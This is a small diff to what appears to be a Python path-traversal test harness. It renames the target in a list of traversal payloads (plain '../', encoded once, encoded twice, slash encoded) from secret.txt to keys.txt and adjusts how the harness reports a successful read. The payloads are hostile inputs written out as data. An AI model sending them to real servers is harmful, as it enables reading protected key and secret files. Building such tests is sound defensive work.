@@ -18,11 +18,11 @@ CONFUSED = (
 )
 
 TRAVERSAL = (
-    "/files/../secret.txt",
-    "/files/%2e%2e/secret.txt",  # encoded once
-    "/files/..%2fsecret.txt",  # the slash too
-    "/files/%252e%252e/secret.txt",  # encoded twice
-    "/files/%252e%252e%252fsecret.txt",  # dots and slash
+    "/files/../keys.txt",
+    "/files/%2e%2e/keys.txt",  # encoded once
+    "/files/..%2fkeys.txt",  # the slash too
+    "/files/%252e%252e/keys.txt",  # encoded twice
+    "/files/%252e%252e%252fkeys.txt",  # dots and slash
 )
 
 
@@ -47,7 +47,7 @@ def try_all(target: Target, paths: tuple[str, ...]) -> Outcome:
         got_it = TREASURE in reply
         won = won or got_it
         status = reply[9:12].decode("latin-1") or "---"
-        seen.append(f"{status}  {path}{'  KEYS!' if got_it else ''}")
+        seen.append(f"{status}  {path}{'  KEYS' if got_it else ''}")
     return Outcome(won, "\n".join(seen))
 
 
